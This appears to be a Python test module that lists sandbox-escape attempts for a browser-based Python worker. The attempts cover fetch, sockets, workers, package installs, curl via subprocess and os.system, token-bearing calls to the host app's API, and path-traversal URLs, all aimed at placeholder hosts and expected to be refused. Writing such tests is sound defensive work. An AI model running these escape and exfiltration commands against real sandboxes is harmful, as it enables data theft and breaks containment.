"""Every way out of a worker that a browser or the interpreter knows."""

from tests.browser.attacks.attack import NO_EFFECT, Attack


def _program(name: str, text: str, expected: str = "refused") -> Attack:
    return Attack(name, "program", text, expected)


REQUESTS = (
    _program("fetch", "return (await js.fetch('@http@')).status"),
    _program(
        "fetch without CORS", "return (await js.fetch('@http@', o(mode='no-cors', keepalive=True))).type"
    ),
    _program(
        "fetch of a Request with credentials",
        "return (await js.fetch(js.Request.new('@http@', o(method='POST', body='x', credentials='include')))).status",
    ),
    _program(
        "fetch kept from the worker's start",
        "return (await js.Reflect.apply(js.WorkerGlobalScope.prototype.fetch, js.globalThis, l('@http@'))).status",
    ),
    _program(
        "XMLHttpRequest",
        """
request = js.XMLHttpRequest.new()
future = asyncio.get_running_loop().create_future()
request.onload = lambda event: future.done() or future.set_result('loaded')
request.onerror = lambda event: future.done() or future.set_exception(OSError('error'))
request.open('GET', '@http@'); request.send()
return await asyncio.wait_for(future, 3)
""",
    ),
    _program(
        "XMLHttpRequest that blocks",
        "request = js.XMLHttpRequest.new(); request.open('GET', '@http@', False); request.send(); return request.status",
    ),
    _program("WebSocket", "return await opened(js.WebSocket.new('@ws@'))"),
    _program(
        "WebSocketStream",
        "return await js.WebSocketStream.new('@ws@').opened",
    ),
    _program("EventSource", "return await opened(js.EventSource.new('@http@'))"),
    _program("WebTransport", "return await js.WebTransport.new('https://@host@:@port@/webtransport').ready"),
    _program("sendBeacon", "return js.navigator.sendBeacon('@http@', 'x')"),
    _program("fetchLater", "return js.fetchLater('@http@', o(activateAfter=0)).activated"),
    _program("importScripts", "return js.importScripts('@http@')"),
    _program(
        "FontFace",
        "face = js.FontFace.new('canary', 'url(@http@)'); await face.load(); return face.status",
    ),
    _program(
        "FontFace used by a canvas",
        """
face = js.FontFace.new('canary', 'url(@http@)'); js.fonts.add(face)
canvas = js.OffscreenCanvas.new(9, 9).getContext('2d')
canvas.font = '9px canary'; canvas.fillText('x', 0, 9)
await js.fonts.load('9px canary')
""",
        NO_EFFECT,
    ),
    _program(
        "filter of a canvas",
        "canvas = js.OffscreenCanvas.new(9, 9).getContext('2d'); canvas.filter = 'url(@http@#f)'; canvas.fillRect(0, 0, 9, 9)",
        NO_EFFECT,
    ),
    _program(
        "Cache.add",
        "return await (await js.caches.open('x')).add('@http@')",
    ),
    _program(
        "background fetch",
        "return await (await js.navigator.serviceWorker.ready).backgroundFetch.fetch('x', '@http@')",
    ),
    _program(
        "push subscription",
        "return await (await js.navigator.serviceWorker.ready).pushManager.subscribe(o(userVisibleOnly=True))",
    ),
    _program("WebAssembly streaming", "return await js.WebAssembly.compileStreaming(js.fetch('@http@'))"),
    _program(
        "WebAssembly that imports fetch",
        """
code = bytes.fromhex('0061736d01000000010401600000020701016501660000030201000707010372756e00010a0601040010000b')
got = []
imports = o(e=o(f=create_proxy(lambda: got.append(js.fetch('@http@')))))
module = await js.WebAssembly.instantiate(to_js(code), imports)
module.instance.exports.run()
return (await got[0]).status
""",
    ),
    _program("RTCPeerConnection", "return js.RTCPeerConnection.new(o(iceServers=[o(urls='@stun@')]))"),
    _program(
        "UDP of the direct sockets",
        "return await js.UDPSocket.new(o(remoteAddress='@host@', remotePort=@udp@)).opened",
    ),
    _program("TCP of the direct sockets", "return await js.TCPSocket.new('@host@', @port@).opened"),
    _program(
        "the worker's address",
        "before = js.location.href; js.location.href = '@http@'; assert js.location.href != before; return js.location.href",
    ),
    _program(
        "an address in the report of an error",
        "js.reportError(js.Error.new('@http@')); js.console.log('@http@'); js.self.dispatchEvent(js.Event.new('error'))",
        NO_EFFECT,
    ),
    _program("notification", "js.Notification.new('x', o(icon='@http@', image='@http@'))", NO_EFFECT),
    _program("window for a client", "return await js.clients.openWindow('@http@')"),
)
"""What JavaScript can name in a worker."""

WORKERS = (
    _program("worker from an address", "return await opened(js.Worker.new('@http@'))"),
    _program(
        "module worker from an address", "return await opened(js.Worker.new('@http@', o(type='module')))"
    ),
    _program(
        "worker from a blob",
        """
blob = js.Blob.new(l("fetch('@http@', {mode: 'no-cors'}); postMessage(1)"), o(type='text/javascript'))
return await opened(js.Worker.new(js.URL.createObjectURL(blob)))
""",
    ),
    _program(
        "worker from data",
        'return await opened(js.Worker.new(\'data:text/javascript,fetch("@http@",{mode:"no-cors"});postMessage(1)\'))',
    ),
    _program(
        "worker from the sandbox's own file",
        """
worker = js.Worker.new('/sandbox/workers/python.js', o(type='module'))
worker.postMessage(o(type='open', files=o(), limits=o(heap=1), shared=None, module=None))
return await opened(worker)
""",
    ),
    _program("shared worker", "return await opened(js.SharedWorker.new('/sandbox/workers/python.js').port)"),
    _program(
        "worker from a file that only looks like one",
        "return await opened(js.Worker.new('/runtimes/manifest.json'))",
    ),
    _program(
        "own script once more, with the places that it would like",
        """
address = '/sandbox/workers/python.js?network=' + js.encodeURIComponent('http://@host@:@port@')
if not (await js.fetch(address)).ok: return 'no answer, so that nothing was tried'
for load in (lambda: js.importScripts(address), lambda: pyodide_js._module.dynamicImport(address), lambda: opened(js.Worker.new(address, o(type='module')))):
    try: await load()
    except Exception: pass
return (await js.fetch('@http@')).status
""",
    ),
    _program(
        "service worker", "return await js.navigator.serviceWorker.register('/sandbox/workers/python.js')"
    ),
)

TAKEN = (
    _program(
        "Worker that was taken away",
        """
holder = js.globalThis
while holder is not None:
    found = js.Object.getOwnPropertyDescriptor(holder, 'Worker')
    if found is not None and found.value is not None: return await opened(js.Reflect.construct(found.value, l('data:text/javascript,postMessage(1)')))
    holder = js.Object.getPrototypeOf(holder)
return js.Worker.new
""",
    ),
    _program(
        "Worker from a blob of the worker's own kind",
        """
source = "import '@app@/sandbox/workers/python.js'; fetch('@http@', {mode: 'no-cors'}); postMessage(1)"
address = js.URL.createObjectURL(js.Blob.new(l(source), o(type='text/javascript')))
for make in ('Worker', 'SharedWorker', 'ServiceWorker', 'Worklet'):
    try: made = js.Reflect.construct(getattr(js, make), l(address, o(type='module')))
    except (AttributeError, Exception): continue
    return await opened(getattr(made, 'port', made))
raise OSError('none can be made')
""",
    ),
    _program(
        "script from a blob",
        """
address = js.URL.createObjectURL(js.Blob.new(l("fetch('@http@', {mode: 'no-cors'}); globalThis.said = 1"), o(type='text/javascript')))
try: js.importScripts(address)
except Exception: await pyodide_js._module.dynamicImport(address)
return js.said
""",
    ),
    _program(
        "app's API from nowhere",
        "return (await js.fetch('@app@/api/conversations', o(credentials='include'))).status",
    ),
    _program(
        "app's API from nowhere with the token",
        "return (await js.fetch('@app@/api/conversations', o(headers=o(Authorization='Bearer @token@')))).status",
    ),
    _program(
        "app's API from nowhere without CORS",
        "return (await js.fetch('@app@/api/conversations/x', o(method='POST', mode='no-cors', credentials='include', body='x'))).type",
    ),
    _program(
        "app's page from nowhere",
        "return (await js.fetch('@app@/', o(mode='no-cors', credentials='include'))).type",
    ),
    _program(
        "WebSocket to the app from nowhere",
        "return await opened(js.WebSocket.new('@appws@/api/conversations/x/ws'))",
    ),
)
"""Where the sandbox has no origin and its workers come from blobs."""

PYTHON = (
    _program("urllib", "import urllib.request\nreturn urllib.request.urlopen('@http@', timeout=2).status"),
    _program(
        "http.client",
        "import http.client\nc = http.client.HTTPConnection('@host@', @port@, timeout=2)\nc.request('GET', '/http-client')\nreturn c.getresponse().status",
    ),
    _program("requests", "import requests\nreturn requests.get('@http@', timeout=2).status_code"),
    _program("pyfetch", "from pyodide.http import pyfetch\nreturn (await pyfetch('@http@')).status"),
    _program("open_url", "from pyodide.http import open_url\nreturn open_url('@http@').read()"),
    _program(
        "socket",
        """
import socket
connection = socket.create_connection(('@host@', @port@), 2)
connection.sendall(b'GET /socket HTTP/1.0\\r\\n\\r\\n')
return connection.recv(1)
""",
    ),
    _program(
        "socket to another port through the interpreter's own WebSocket",
        """
import socket
connection = socket.socket()
connection.setblocking(False)
error = connection.connect_ex(('@host@', @port@))
await asyncio.sleep(0.3)
connection.send(b'x')
await asyncio.sleep(0.3)
assert connection.recv(1)
""",
    ),
    _program(
        "datagram",
        "import socket\nsocket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('@host@', @udp@))",
        NO_EFFECT,
    ),
    _program("look-up of a name", "import socket\nsocket.getaddrinfo('@host@', 80)", NO_EFFECT),
    _program("asyncio stream", "return await asyncio.open_connection('@host@', @port@)"),
    _program(
        "micropip from an address", "import micropip\nawait micropip.install('@http@/x-1-py3-none-any.whl')"
    ),
    _program(
        "micropip from an index",
        "import micropip\nawait micropip.install('x', index_urls='@http@/{package_name}/json')",
    ),
    _program(
        "loadPackage from an address",
        "await pyodide_js.loadPackage('@http@/x-1-py3-none-any.whl'); import x",
    ),
    _program(
        "module of the interpreter from an address", "return await pyodide_js._api.importScripts('@http@')"
    ),
    _program("webbrowser", "import webbrowser\nassert webbrowser.open('@http@')"),
    _program("another process", "import subprocess\nreturn subprocess.run(['curl', '@http@'])"),
    _program("shell", "import os\nassert os.system('curl @http@') == 0"),
)

ALONE = (
    *(
        Attack(name, "program", text, "completed|failed|lost", alone=True)
        for name, text in (
            (
                "loadPackage with another base",
                "await pyodide_js.loadPackage('numpy', o(packageBaseUrl='@http@', checkIntegrity=False))",
            ),
            (
                "lazy file of the interpreter",
                "pyodide_js.FS.createLazyFile('/', 'lazy', '@http@', True, False)\nprint(open('/lazy').read())",
            ),
            (
                "preloaded file of the interpreter",
                "pyodide_js._module.FS_createPreloadedFile('/', 'early', '@http@', True, False)\nawait asyncio.sleep(0.3)\nprint(open('/early').read())",
            ),
            (
                "library of the interpreter from an address",
                "await pyodide_js._module.loadDynamicLibrary('@http@', o(loadAsync=True))",
            ),
        )
    ),
)
"""Ways of the interpreter that may kill it."""

EVERYWHERE = (*REQUESTS, *WORKERS, *PYTHON)
"""Tried twice: against another port of this machine, and against a name, whose look-up alone would be a hit."""

TO_THE_APP = (
    *(
        _program(
            f"the app's {path} {how}",
            f"return (await js.fetch('@app@{path}', o({options}))).status",
        )
        for path in ("/api/conversations", "/api/config", "/")
        for how, options in (
            ("with cookies", "credentials='include'"),
            ("with the token", "headers=o(Authorization='Bearer @token@')"),
            ("without CORS", "mode='no-cors', credentials='include'"),
        )
    ),
    _program(
        "write to the app's API",
        "return (await js.fetch('@app@/api/conversations/x', o(method='PUT', mode='no-cors'))).type",
    ),
    _program(
        "WebSocket to the app", "return await opened(js.WebSocket.new('@appws@/api/conversations/x/ws'))"
    ),
    _program("WebSocket to the sandbox", "return await opened(js.WebSocket.new('/api/conversations/x/ws'))"),
    _program("EventSource to the app", "return await opened(js.EventSource.new('@app@/api/conversations'))"),
    _program(
        "app by its address and the sandbox's port",
        "return (await js.fetch('http://[::1]:@appport@/api/config')).status",
    ),
    *(
        _program(
            f"redirect from the sandbox to the app's {path}",
            f"response = await js.fetch('{path}', o(mode='{mode}', credentials='include'))\n"
            "assert response.redirected or response.type == 'opaqueredirect'\nreturn response.status",
        )
        for path, mode in (("/", "cors"), ("/c/x", "no-cors"))
    ),
    *(
        _program(
            f"sandbox's {path} with the token",
            f"response = await js.fetch('{path}', o(headers=o(Authorization='Bearer @token@')))\n"
            "assert response.status < 400\nreturn response.status",
        )
        for path in (
            "/api/conversations",
            "/api/config",
            "/api/openapi.json",
            "/healthz",
            "/login",
            "/sandbox/../api/config",
            "/runtimes/%2e%2e/api/config",
        )
    ),
)
"""The app's own server, with everything that a program could have found out."""

NETWORK = (*EVERYWHERE, *ALONE, *TO_THE_APP)
